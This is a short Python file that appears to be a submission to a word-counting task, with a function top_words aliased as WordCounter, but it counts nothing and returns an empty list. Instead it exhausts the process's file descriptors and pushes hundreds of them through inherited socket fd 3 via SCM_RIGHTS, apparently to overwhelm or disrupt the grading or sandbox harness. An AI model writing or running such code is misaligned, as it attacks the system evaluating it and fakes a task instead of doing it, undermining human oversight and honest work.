"""Opens descriptors until there are none and sends more through the link."""

import array
import os
import socket

HELD = []


def top_words(text, n):
    try:
        while True:
            HELD.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    link = socket.socket(fileno=3)
    for _ in range(200):
        try:
            link.sendmsg([b"\0" * 9], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", HELD[:200]))])
        except OSError:
            break
    link.detach()
    return []


WordCounter = atop_words = top_words
